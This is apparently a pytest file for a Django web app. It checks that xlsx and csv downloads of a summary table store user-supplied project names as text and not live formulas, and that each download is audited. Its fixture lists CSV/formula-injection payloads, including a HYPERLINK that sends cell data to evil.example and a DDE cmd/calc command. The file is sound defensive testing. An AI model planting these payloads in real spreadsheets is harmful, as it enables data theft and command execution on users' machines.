"""The 汇总表 downloads: no user text ever becomes a live formula, and every download is audited."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from jixiao.web.audit.models import AuditEvent
from tests.web.conftest import declare

pytestmark = pytest.mark.django_db

# What a hostile filer might name a project: each would run in Excel or WPS if written as a formula.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&B3,"点击查看明细")',
    "=1+1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+86-21-1234",
    "-2+3",
    "\t=1+2",
)


@pytest.fixture
def hostile(tree: Any, people: dict[str, Any]) -> list[str]:
    """One draft declaration of the unit per hostile name."""
    for name in HOSTILE:
        declare(people["staff_a1"], tree.unit_a1, name=name)
    return list(HOSTILE)


def test_xlsx_download_writes_hostile_names_as_text_not_formulas(hostile: list[str], people: Any, login: Any) -> None:
    """Every name is a text cell in the sheet XML: no <f> element, the exact name as its value."""
    response = login(people["staff_a1"]).get("/work/summary/download.xlsx?year=2025")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(archive.read(n).decode("utf-8") for n in sheets)
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for name in hostile:
        cell = cells[name]
        assert cell.data_type == "s", name
        assert cell.quotePrefix, name  # Excel shows it as typed and will not re-read it as a formula on edit


def test_csv_download_prefixes_every_formula_start(hostile: list[str], people: Any, login: Any) -> None:
    """A name starting with = + - @ or a tab is written with a leading apostrophe, and nothing else changes."""
    response = login(people["staff_a1"]).get("/work/summary/download.csv?year=2025")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {r["项目名称"] for r in rows[:-1]}
    assert names == {"'" + name for name in hostile}
    # figures stay figures: the requested amount is a plain number, not an apostrophed text
    assert {r["申请金额（元）"] for r in rows[:-1]} == {"100000.00"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_each_summary_download_is_audited_as_an_export(fmt: str, hostile: list[str], people: Any, login: Any) -> None:
    """Downloading the table records who downloaded what, with the filters and the number of rows."""
    client = login(people["staff_a1"])
    before = AuditEvent.objects.filter(event=AuditEvent.Type.EXPORT).count()
    assert client.get(f"/work/summary/download.{fmt}?year=2025&q=1").status_code == 200
    events = AuditEvent.objects.filter(event=AuditEvent.Type.EXPORT).order_by("pk")
    assert events.count() == before + 1
    event = events.last()
    assert event is not None and event.actor == people["staff_a1"] and event.success
    assert event.organization_id == people["staff_a1"].account.organization_id
    assert event.detail["format"] == fmt
    assert event.detail["what"] == "汇总表"
    assert event.detail["filters"]["year"] == "2025" and event.detail["filters"]["q"] == "1"
    assert event.detail["rows"] == sum("1" in name for name in HOSTILE)
